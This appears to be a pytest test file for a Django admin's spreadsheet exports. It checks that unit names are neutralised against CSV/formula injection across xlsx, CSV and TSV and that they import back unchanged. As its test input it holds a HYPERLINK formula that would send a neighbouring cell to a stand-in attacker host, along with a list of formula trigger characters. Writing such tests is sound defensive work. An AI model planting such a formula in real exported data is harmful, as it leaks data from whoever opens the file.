"""The admin's exports (django-import-export) write no live formula, in any format offered.

A commune named ``=HYPERLINK("http://evil.example/?x="&A3,"Xã Kỳ Lạc")`` was written as a live
formula into the xlsx export and unescaped into the CSV: opened by an official, it runs (and
here would send the next cell to another site). communes.resources neutralises it with a
leading apostrophe, as the portal's own exports do, and reads it back unchanged on import.
"""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.urls import reverse
from import_export.admin import ExportMixin
from import_export.formats import base_formats

from communes.enums import Role
from communes.models import Commune, District, Province, Village
from communes.resources import CommuneResource
from tests.factories import legacy_unit, make_user, make_village

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A3,"Xã Kỳ Lạc")'
# Each trigger a spreadsheet reads as the start of a formula (OWASP's CSV injection list).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EXPORTING = [
    model
    for model, model_admin in admin.site._registry.items()
    if isinstance(model_admin, ExportMixin)
]


def test_every_unit_admin_exports():
    # If another admin gains an export, it joins the test below by itself.
    assert set(EXPORTING) >= {Province, District, Commune, Village}


def _booby_trap(model):
    """An object of ``model`` in Hà Tĩnh named like a formula."""
    if model is Village:
        obj = make_village(commune=legacy_unit(Commune, "18850"), name="x")
    else:
        # The unit of the pre-2025 map: since 01/07/2025 code 42 also names the new Hà Tĩnh.
        obj = legacy_unit(model, {Province: "42", District: "447"}.get(model, "18850"))
    model.objects.filter(pk=obj.pk).update(name=FORMULA)
    return obj


def _export(client, model, file_format):
    model_admin = admin.site._registry[model]
    formats = model_admin.get_export_formats()
    resource = model_admin.get_export_resource_classes(None)[0]
    data = {"format": formats.index(file_format), "resource": 0}
    for name in resource().fields:
        data[f"{resource.__name__.lower()}_{name}"] = "on"
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response.content


def _cells(content, file_format):
    if file_format is base_formats.XLSX:
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a live formula in {cell.coordinate}"
                yield cell.value
    else:
        delimiter = "\t" if file_format is base_formats.TSV else ","
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter):
            yield from row


@pytest.mark.parametrize("who", ["admin", "hatinh-admin"])
@pytest.mark.parametrize("model", EXPORTING, ids=lambda m: m.__name__)
@pytest.mark.parametrize(
    "file_format",
    [base_formats.XLSX, base_formats.CSV, base_formats.TSV],
    ids=["xlsx", "csv", "tsv"],
)
def test_admin_export_writes_no_formula(client, model, file_format, who, hatinh_admin_user):
    _booby_trap(model)
    client.force_login(get_user_model().objects.get(username=who))
    cells = [c for c in _cells(_export(client, model, file_format), file_format) if c is not None]
    assert "'" + FORMULA in cells  # the row is there, neutralised
    live = [c for c in cells if isinstance(c, str) and c.startswith(TRIGGERS)]
    assert not live


@pytest.fixture
def hatinh_admin_user():
    user = make_user(
        "hatinh-admin",
        role=Role.ADMIN,
        unit=legacy_unit(Province, "42"),
        password=None,
        is_staff=True,
    )
    user.user_permissions.set(Permission.objects.all())
    return user


def test_a_neutralised_name_imports_back_unchanged():
    commune = legacy_unit(Commune, "18850")
    Commune.objects.filter(pk=commune.pk).update(name=FORMULA)
    dataset = CommuneResource().export(queryset=Commune.objects.filter(pk=commune.pk))
    assert dataset.dict[0]["name"] == "'" + FORMULA
    result = CommuneResource().import_data(dataset, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    commune.refresh_from_db()
    assert commune.name == FORMULA
